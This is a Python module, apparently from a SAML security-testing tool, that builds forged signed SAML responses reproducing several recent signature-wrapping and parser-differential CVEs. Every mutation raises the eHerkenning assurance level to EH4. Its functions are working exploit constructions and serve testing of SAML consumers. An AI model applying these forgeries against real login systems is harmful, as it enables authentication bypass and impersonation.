"""Mutations of the cve family: the recent SAML vulnerability classes, by number, as their public write-ups and
SAML Raider's helpers describe them; each on the correct, signed answer.

- CVE-2024-45409 (ruby-saml): the DigestValue taken from anywhere in the document, not from the SignedInfo;
- CVE-2025-23369 (GitHub Enterprise Server, libxml2): the assertion's signature moved into the Response with the
  signed original in a ds:Object, IDs made equal through entities;
- CVE-2025-25291 (ruby-saml, REXML and Nokogiri): a DOCTYPE whose SYSTEM literal one parser reads as a comment
  start, so each parser sees another document;
- CVE-2025-25292 (ruby-saml): namespace confusion, an unqualified Signature given the ds namespace by an ATTLIST;
- CVE-2024-4985 (GitHub Enterprise Server): an EncryptedAssertion holding an unsigned assertion (encryption.py).
"""

from __future__ import annotations

import base64
import copy
import hashlib

from lxml import etree

from ehsaml import dsig, ns
from ehsaml import eherkenning as eh
from ehsaml.xml import tostring

from ..registry import RawDocument, mutation
from ._common import _assertion, _q, _resign


def _forge(assertion) -> None:
    """What the attacker wants the DV to read: EH4."""
    assertion.find(".//saml:AuthnContextClassRef", ns.NSMAP).text = eh.Level.EH4.value


def _digest(element) -> str:
    """The SHA-256 of the element's exclusive c14n without its own signature (what its Reference would say)."""
    bare = copy.deepcopy(element)
    dsig.strip_signature(bare)
    return base64.b64encode(hashlib.sha256(etree.tostring(bare, method="c14n", exclusive=True)).digest()).decode()


def _status_detail(response):
    return etree.SubElement(response.find(_q("Status", "samlp")), _q("StatusDetail", "samlp"))


@mutation("digest_elsewhere")
def digest_elsewhere(ctx):
    """CVE-2024-45409: the assertion changed after signing, the DigestValue of the changed assertion placed earlier in
    the document (samlp:StatusDetail), the SignedInfo untouched; the Response signed again."""
    a = _assertion(ctx)
    _forge(a)
    etree.SubElement(_status_detail(ctx.response), ns.q("ds", "DigestValue")).text = _digest(a)
    _resign(ctx, assertion=False)
    return ctx.response


@mutation("signature_in_object")
def signature_in_object(ctx, doctype=False):
    """CVE-2025-23369 / SAML Raider's XSW10: the assertion's valid signature copied into the Response, the signed
    original in its ds:Object, the read assertion forged under another ID; with doctype, the IDs tied by entities."""
    r, a = ctx.response, _assertion(ctx)
    dsig.strip_signature(r)
    moved = copy.deepcopy(dsig.signature_of(a))
    r.find(_q("Issuer")).addnext(moved)
    etree.SubElement(moved, ns.q("ds", "Object")).append(copy.deepcopy(a))
    signed_id = a.get("ID")
    dsig.strip_signature(a)
    a.set("ID", signed_id + "ffff")
    _forge(a)
    if not doctype:
        return r
    body = tostring(r).decode("utf-8").replace(f'ID="{r.get("ID")}"', 'ID="&idViaEntity;"', 1)
    body = body.replace(f'ID="{signed_id}"', f'ID="&bypassIdUniqueness;{signed_id}"', 1)
    declared = f'<!DOCTYPE samlp:Response [<!ENTITY idViaEntity "{signed_id}"><!ENTITY bypassIdUniqueness "">]>'
    return RawDocument((declared + body).encode("utf-8"), r)


@mutation("round_trip_comment")
def round_trip_comment(ctx):
    """CVE-2025-25291: <!DOCTYPE r SYSTEM 'x"><!--'>, then a forged Response, the signed original inside a CDATA
    section that the other parser reads as the end of a comment."""
    original = tostring(ctx.response).decode("utf-8")
    forged = copy.deepcopy(ctx.response)
    _forge(forged.find(_q("Assertion")))
    end = f"</{ctx.response.prefix}:Response>"
    body = ("<!DOCTYPE samlp:Response SYSTEM 'x\"><!--'>\n" + tostring(forged).decode("utf-8")[: -len(end)]
            + "<![CDATA[-->\n" + original[: -len(end)] + "<!--]]>-->\n" + end)
    return RawDocument(body.encode("utf-8"), ctx.response)


@mutation("namespace_confusion")
def namespace_confusion(ctx, doctype=True):
    """CVE-2025-25292: the signatures moved out: an unqualified <Signature> with the original's content in a
    samlp:StatusDetail, the assertion's own signature made over nothing (the digest of empty input); with
    doctype, an ATTLIST that gives the unqualified Signature the ds namespace for one parser only."""
    r, a = ctx.response, _assertion(ctx)
    original = dsig.signature_of(a)
    a.remove(original)
    dsig.strip_signature(r)
    empty = base64.b64encode(hashlib.sha256(b"").digest()).decode()
    fake = copy.deepcopy(original)
    fake.find(f".//{ns.q('ds', 'DigestValue')}").text = empty
    a.find(_q("Issuer")).addnext(fake)
    unqualified = etree.SubElement(_status_detail(r), "Signature")
    for child in original:
        unqualified.append(copy.deepcopy(child))
    _forge(a)
    if not doctype:
        _resign(ctx, assertion=False)  # only the assertion's signature is wrong
        return r
    attlist = ('<!DOCTYPE samlp:Response [<!ATTLIST Signature xmlns CDATA #FIXED '
               '"http://www.w3.org/2000/09/xmldsig#">]>')
    return RawDocument((attlist + tostring(r).decode("utf-8")).encode("utf-8"), r)
